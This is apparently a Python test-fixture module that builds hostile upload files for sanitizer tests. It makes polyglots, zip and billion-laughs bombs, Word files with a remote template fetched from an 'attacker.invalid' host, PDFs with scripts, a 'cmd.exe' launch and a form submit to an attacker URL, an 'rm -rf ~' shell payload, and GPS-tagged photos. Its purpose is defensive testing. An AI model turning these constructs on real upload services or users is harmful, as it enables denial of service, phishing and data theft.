"""Hostile files for the upload tests, made in memory: types that lie, polyglots, archive
and XML bombs, Office files with active parts, PDFs with scripts, actions, XFA and files
inside, photos with their GPS position, and hostile file names.

Each maker returns bytes; `pdf_activity` and `image_metadata` say what a file carries, so
a test can show the input has it before showing the stored copy has not."""
import functools
import io
import struct
import zipfile

import pikepdf
from PIL import Image, PngImagePlugin

from tests.files import EXECUTABLE, _package, docx_bytes, jpeg_bytes, pdf_bytes, png_bytes

DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SCRIPT = "app.alert('hostile')"  # every PDF script here; never to be found in what is stored
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b'<script>alert(document.domain)</script></svg>')
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 120
SHELL = b"#!/bin/sh\nrm -rf ~\n"
GPS_PLACE = (48, 12, 30)  # degrees, minutes, seconds: a place someone wanted kept quiet
WHO = "Quietvale Field Office"


# --- types that lie about themselves and polyglots -----------------------------------------

def pdf_html_polyglot() -> bytes:
    """A valid PDF whose first lines are an HTML page with a script: a browser that sniffed
    it would run the script."""
    return pdf_bytes("<html><script>alert(document.cookie)</script></html>")


def png_zip_polyglot() -> bytes:
    """A PNG with a ZIP archive (holding an executable) after its end: a picture and an archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("setup.exe", EXECUTABLE)
    return png_bytes() + out.getvalue()


def jpeg_html_polyglot() -> bytes:
    return jpeg_bytes() + HTML


# --- archives and Office packages ---------------------------------------------------------

def _zip(parts: dict, compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def _docx_with(extra: dict) -> bytes:
    return _package("word/document.xml", DOCX_MAIN, extra)


@functools.cache
def docx_bomb(megabytes: int = 300) -> bytes:
    """A Word file one of whose parts honestly inflates to `megabytes` of zeros (a few
    hundred kilobytes packed)."""
    out = io.BytesIO(docx_bytes())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as package:
        with package.open("word/media/filler.xml", "w") as part:
            chunk = b"\x00" * (1 << 20)
            for _ in range(megabytes):
                part.write(chunk)
    return out.getvalue()


def _declare_size(data: bytes, name: str, size: int, crc: int | None = None) -> bytes:
    """The archive with `name`'s uncompressed size (and CRC) rewritten in its local header
    and its central directory entry: the directory then lies about what the part holds."""
    raw = bytearray(data)
    encoded = name.encode()
    for signature, size_at, crc_at, name_at in ((b"PK\x03\x04", 22, 14, 30), (b"PK\x01\x02", 24, 16, 46)):
        start = 0
        while (start := raw.find(signature, start)) >= 0:
            if raw[start + name_at:start + name_at + len(encoded)] == encoded:
                struct.pack_into("<I", raw, start + size_at, size)
                if crc is not None:
                    struct.pack_into("<I", raw, start + crc_at, crc)
            start += 4
    return bytes(raw)


def docx_declaring_gigabytes() -> bytes:
    """A small Word file whose directory says a part holds 3 GB."""
    return _declare_size(_docx_with({"word/huge.xml": b"<x/>" * 250}), "word/huge.xml", 3_000_000_000)


@functools.cache
def docx_lying_small() -> bytes:
    """A Word file whose directory says a part holds 1 kB, while its data inflates to 50 MB:
    only a reader that stops at the declared size is safe."""
    out = io.BytesIO(docx_bytes())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/small.xml", b"\x00" * (50 << 20))
    return _declare_size(out.getvalue(), "word/small.xml", 1024)


@functools.cache
def docx_with_parts(count: int = 20_000) -> bytes:
    return _docx_with({f"word/p{n}.xml": b"" for n in range(count)})


def nested_zip(depth: int = 40) -> bytes:
    """A zip in a zip in a zip..., the innermost holding an executable."""
    data = EXECUTABLE
    for level in range(depth):
        data = _zip({f"level{level}.zip" if level else "setup.exe": data})
    return data


def docx_holding_nested_zip() -> bytes:
    return _docx_with({"word/embeddings/archive.zip": nested_zip(20)})


def docx_with_ole_object() -> bytes:
    """An OLE object (how a packaged program sits in a document as an icon)."""
    return _docx_with({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + EXECUTABLE})


def xlsx_with_activex() -> bytes:
    return _package("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    {"xl/activeX/activeX1.xml": "<ax:ocx/>", "xl/activeX/activeX1.bin": EXECUTABLE})


def docx_with_remote_template() -> bytes:
    """The "template injection" of phishing: Word fetches a macro template on opening."""
    rels = ('<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode="External"/></Relationships>')
    return _docx_with({"word/_rels/settings.xml.rels": rels})


def docx_with_macro_embedded() -> bytes:
    return _docx_with({"word/embeddings/Microsoft_Word_Macro-Enabled_Document.docm": docx_bytes()})


def docx_xml_bomb() -> bytes:
    """"Billion laughs" in the part every check reads first."""
    lol = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">' for n in range(1, 10))
           + ']><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">&lol9;'
           f'<Override PartName="/word/document.xml" ContentType="{DOCX_MAIN}"/></Types>')
    return _zip({"[Content_Types].xml": lol, "word/document.xml": "<document/>"})


def docx_with_link() -> bytes:
    """An ordinary Word file with an embedded chart workbook and a web link: kept."""
    rels = ('<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'hyperlink" Target="https://www.unscear.org/" TargetMode="External"/></Relationships>')
    return _docx_with({"word/_rels/document.xml.rels": rels,
                       "word/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK\x05\x06" + b"\x00" * 18})


# --- PDFs with active content -------------------------------------------------------------

def _script(kind: str = "/JavaScript") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(kind), JS=pikepdf.String(SCRIPT))


def _edited_pdf(edit, **save) -> bytes:
    with pikepdf.open(io.BytesIO(pdf_bytes("hostile"))) as pdf:
        # Each maker's file differs from the others' once disarmed: not a copy already attached.
        pdf.docinfo["/Title"] = edit.__qualname__.split(".")[0]
        edit(pdf)
        out = io.BytesIO()
        pdf.save(out, **save)
        return out.getvalue()


def _link(pdf, action: pikepdf.Dictionary) -> None:
    """A link over the page, written directly in the page's /Annots (not an object of its own)."""
    pdf.pages[0].obj["/Annots"] = pikepdf.Array([pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 200, 200], A=action)])


def pdf_open_action_script() -> bytes:
    return _edited_pdf(lambda pdf: pdf.Root.__setattr__("OpenAction", _script()))


def pdf_document_scripts() -> bytes:
    """A script in the document's /Names /JavaScript tree, its code in a compressed stream."""
    def edit(pdf):
        action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript,
                                                      JS=pdf.make_stream(SCRIPT.encode())))
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("init"), action]))
    return _edited_pdf(edit, compress_streams=True)


def pdf_page_additional_actions() -> bytes:
    def edit(pdf):
        pdf.pages[0].obj["/AA"] = pikepdf.Dictionary(O=_script())
        pdf.Root.AA = pikepdf.Dictionary(WC=_script())
    return _edited_pdf(edit)


def pdf_launch() -> bytes:
    return _edited_pdf(lambda pdf: _link(pdf, pikepdf.Dictionary(
        S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"),
        Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe"), P=pikepdf.String("/c calc")))))


def pdf_javascript_uri() -> bytes:
    return _edited_pdf(lambda pdf: _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.URI,
                                                                  URI=pikepdf.String("javascript:" + SCRIPT))))


def pdf_submit_form() -> bytes:
    return _edited_pdf(lambda pdf: _link(pdf, pikepdf.Dictionary(
        S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://attacker.invalid/collect"))))


def pdf_script_after_goto() -> bytes:
    """A harmless "go to page 1" whose /Next runs a script."""
    def edit(pdf):
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[pdf.pages[0].obj, pikepdf.Name.Fit],
                                                 Next=_script())
    return _edited_pdf(edit)


def pdf_xfa() -> bytes:
    def edit(pdf):
        xfa = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>'
                              + SCRIPT.encode() + b"</script></template></xdp:xdp>")
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=xfa)
        pdf.Root.NeedsRendering = True
    return _edited_pdf(edit)


def pdf_embedded_file() -> bytes:
    def edit(pdf):
        pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(pdf, EXECUTABLE, mime_type="application/octet-stream")
    return _edited_pdf(edit)


def pdf_file_annotation() -> bytes:
    """A file attached to the page (a paper-clip icon), not listed in /EmbeddedFiles."""
    def edit(pdf):
        spec = pikepdf.AttachedFileSpec(pdf, EXECUTABLE, filename="invoice.exe")
        pdf.pages[0].obj["/Annots"] = pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 20, 20],
            FS=spec.obj))])
    return _edited_pdf(edit)


def pdf_with_password() -> bytes:
    return _edited_pdf(lambda pdf: None, encryption=pikepdf.Encryption(user="secret", owner="secret"))


def pdf_harmless_navigation() -> bytes:
    """Opens at page 1 fitted to the window, with a web link: nothing to remove."""
    def edit(pdf):
        pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
        _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.unscear.org/")))
    return _edited_pdf(edit)


def _dictionaries(pdf):
    """Every dictionary of the file, the direct ones nested in objects too."""
    for obj in pdf.objects:
        stack = [obj]
        while stack:
            item = stack.pop()
            if isinstance(item, (pikepdf.Dictionary, pikepdf.Stream)):
                yield item
                children = [item[key] for key in item.keys()]
            elif isinstance(item, pikepdf.Array):
                children = list(item)
            else:
                continue
            stack.extend(c for c in children if isinstance(c, (pikepdf.Dictionary, pikepdf.Array)) and not c.is_indirect)


def pdf_activity(data: bytes) -> set[str]:
    """What in a PDF runs, reaches out or carries files: {"/JS", "/AA", "/Launch", ...}."""
    found = set()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        names = pdf.Root.get("/Names")
        for key in ("/JavaScript", "/EmbeddedFiles"):
            if names is not None and key in names:
                found.add(key)
        if "/AcroForm" in pdf.Root and "/XFA" in pdf.Root.AcroForm:
            found.add("/XFA")
        for item in _dictionaries(pdf):
            found |= {key for key in ("/JS", "/AA", "/EF") if key in item}
            kind = str(item.get("/S", ""))
            if kind in ("/JavaScript", "/Launch", "/SubmitForm", "/ImportData"):
                found.add(kind)
            if str(item.get("/URI", "")).lower().startswith("javascript:"):
                found.add("javascript:")
    return found


# --- images with metadata -----------------------------------------------------------------

def _exif(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[0x013B] = WHO  # Artist
    exif[0x0110] = "Field camera SN-4471"  # Model
    exif[0x0112] = orientation
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: tuple(float(v) for v in GPS_PLACE), 3: "E", 4: (16.0, 22.0, 5.0)})
    return exif


def _xmp() -> bytes:
    return (f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
            f'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="{WHO}"/>'
            f'</rdf:RDF></x:xmpmeta>').encode()


def _picture() -> Image.Image:
    image = Image.new("RGB", (24, 16), (20, 120, 60))
    image.paste((200, 30, 30), (0, 0, 8, 8))  # a corner, so a rotation would show
    return image


def jpeg_with_metadata(orientation: int = 6) -> bytes:
    """A phone photo: EXIF with GPS and the camera, XMP, a comment, turned by its orientation."""
    out = io.BytesIO()
    _picture().save(out, format="JPEG", exif=_exif(orientation), xmp=_xmp(), comment=f"Taken by {WHO}".encode())
    return out.getvalue()


def png_with_metadata() -> bytes:
    """Text, XMP (iTXt, compressed), EXIF with GPS (eXIf), a private chunk and bytes after the end."""
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", WHO)
    text.add_itxt("XML:com.adobe.xmp", _xmp().decode(), zip=True)
    text.add_text("Comment", f"Drawn by {WHO}", zip=True)
    text.add(b"prVt", WHO.encode())
    out = io.BytesIO()
    _picture().save(out, format="PNG", pnginfo=text, exif=_exif())
    return out.getvalue() + HTML


def image_metadata(data: bytes) -> set[str]:
    """What of an image's metadata PIL finds: {"gps", "exif", "xmp", "comment", "text"}."""
    found = set()
    with Image.open(io.BytesIO(data)) as image:
        exif = image.getexif()
        if exif.get_ifd(0x8825):
            found.add("gps")
        if set(exif) - {0x0112, 0x8825}:
            found.add("exif")
        info = image.info
        if "xmp" in info or "XML:com.adobe.xmp" in info:
            found.add("xmp")
        if "comment" in info or "Comment" in info:
            found.add("comment")
        if "Author" in info:
            found.add("text")
    if WHO.encode() in data or HTML in data:
        found.add("bytes")
    return found


@functools.cache
def pdf_bomb_with_script(megabytes: int = 300) -> tuple[bytes, bytes]:
    """(the PDF, its packed stream): a script to remove, and a page content stream that
    inflates to `megabytes` of blanks (packed, a few hundred kilobytes)."""
    import zlib

    packer, chunk = zlib.compressobj(9), b" " * (1 << 20)
    # Hex around Flate: a writer that re-packs streams in a filter of its choice must
    # inflate this one first (qpdf leaves a stream packed by Flate alone as it is).
    packed = (b"".join(packer.compress(chunk) for _ in range(megabytes)) + packer.flush()).hex().encode() + b">"

    def edit(pdf):
        pdf.Root.OpenAction = _script()
        stream = pikepdf.Stream(pdf, packed)
        stream.Filter = pikepdf.Array([pikepdf.Name.ASCIIHexDecode, pikepdf.Name.FlateDecode])
        pdf.pages[0].obj["/Contents"] = pdf.make_indirect(stream)
    return _edited_pdf(edit, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none), packed
